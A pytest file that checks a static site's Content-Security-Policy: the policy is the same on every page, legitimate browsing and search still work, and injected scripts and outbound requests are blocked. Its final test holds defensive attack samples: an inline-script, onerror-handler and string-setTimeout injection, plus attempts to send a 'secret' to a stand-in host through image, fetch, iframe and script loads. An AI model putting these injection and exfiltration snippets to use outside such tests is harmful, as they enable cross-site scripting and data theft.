"""The Content-Security-Policy: what it is, and what browsers make of it on a small site."""

import re
from base64 import b64encode
from collections.abc import Iterator
from hashlib import sha256
from pathlib import Path
from typing import Any

import pytest
from lessonsite.publish import script_hashes
from sites import BuildSite, MakeSite, publish, watch

POLICY = re.compile('<meta http-equiv="Content-Security-Policy" content="([^"]*)">')
PAGES = {
    "index.md": "# Home\n\n[Deeper](lessons/deeper.md), $x^2$\n",
    "lessons/deeper.md": '# Deeper\n\n[Home](../index.md) <b style="color: #010203">styled</b>\n',
}


def checksum(script: str) -> str:
    return f"'sha256-{b64encode(sha256(script.encode()).digest()).decode()}'"


def test_script_hashes_are_those_of_scripts_that_run():
    pages = [
        '<script src="a.js"></script><script>theme("a")</script><script>both()</script>',
        """<script id="x">theme('b')\n</script><script>both()</script>
        <script id="data" type="application/json">{"data": 1}</script>""",
    ]
    expected = 'theme("a")', "theme('b')\n", "both()"
    assert script_hashes(pages).split() == sorted(map(checksum, expected))


@pytest.fixture(scope="module")
def site(make_site: MakeSite, build_site: BuildSite) -> Path:
    root = make_site(PAGES)
    done = build_site(root)
    assert done.returncode == 0, done.stderr
    return root / "site"


@pytest.fixture(scope="module")
def home(site: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with publish(site, tmp_path_factory.mktemp("www")) as home:
        yield home


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    with browser.new_context() as context:
        context.set_default_timeout(10_000)
        yield context.new_page()


@pytest.mark.slow
def test_policy_is_the_same_on_all_pages_of_a_site(site: Path):
    pages = [path.read_text() for path in site.rglob("*.html")]
    assert len(pages) == 3  # with that of dead links
    (found,) = {tuple(POLICY.findall(page)) for page in pages}
    assert len(found) == 1 and "'unsafe-eval'" not in found[0]
    (scripts,) = re.findall("script-src ([^;]*)", found[0])
    assert "'unsafe-inline'" not in scripts and scripts.count("'sha256-") > 3
    for page in pages:  # It stands before whatever it governs.
        assert page.index("Content-Security-Policy") < page.index("stylesheet")


@pytest.mark.slow
def test_policy_lets_pages_do_all_that_they_should(page: Any, home: str):
    complaints = watch(page, home)
    for path in "lessons/deeper/", "404.html", "":
        page.goto(home + path, wait_until="networkidle")
    page.evaluate("window.same = true")
    page.get_by_role("link", name="Deeper").first.click()
    styled = page.get_by_text("styled")
    assert styled.evaluate("e => getComputedStyle(e).color") == "rgb(1, 2, 3)"
    page.wait_for_timeout(250)  # Material closes search, 125 ms after an address has changed.
    page.get_by_role("textbox", name="Search").click()
    page.keyboard.type("deeper")
    page.locator(".md-search-result__link").first.wait_for()
    page.keyboard.press("Escape")
    page.get_by_role("link", name="Home").first.click()
    page.get_by_role("heading", level=1, name="Home").wait_for()
    assert page.evaluate("window.same") and complaints == []


# Each tries something and returns, in the end, which directives stood in its way.
TRY = """
async (attempt) => {
  const forbidden = [];
  document.addEventListener("securitypolicyviolation", (event) => {
    forbidden.push(event.effectiveDirective);
  });
  attempt();
  await new Promise((done) => setTimeout(done, 200));
  return forbidden.sort();
}
"""
RUN = """() => {
  window.ran = [];
  const script = document.createElement("script");
  script.textContent = 'ran.push("script")';
  document.body.append(script);
  const text = document.createElement("div");
  text.innerHTML = `<img src="data:," onerror="ran.push('handler')">`;
  document.body.append(text);
  setTimeout("ran.push('string')");
}"""
SEND = """() => {
  const elsewhere = "http://localhost:9/?secret";
  document.body.append(Object.assign(new Image(), { src: elsewhere }));
  fetch(elsewhere).catch(() => {});
  document.body.append(Object.assign(document.createElement("iframe"), { src: elsewhere }));
  const script = Object.assign(document.createElement("script"), { src: elsewhere });
  document.body.append(script);
}"""


@pytest.mark.slow
@pytest.mark.parametrize("navigate", [False, True], ids=["at first", "after navigation"])
def test_policy_what_is_slipped_in_neither_runs_nor_tells(page: Any, home: str, navigate: bool):
    page.goto(home, wait_until="networkidle")
    if navigate:
        page.get_by_role("link", name="Deeper").first.click()
        page.get_by_text("styled").wait_for()
    forbidden = page.evaluate(f"({TRY})({RUN})")
    assert page.evaluate("ran") == []
    assert forbidden == ["script-src", "script-src-attr", "script-src-elem"]
    forbidden = page.evaluate(f"({TRY})({SEND})")
    assert forbidden == ["connect-src", "frame-src", "img-src", "script-src-elem"]
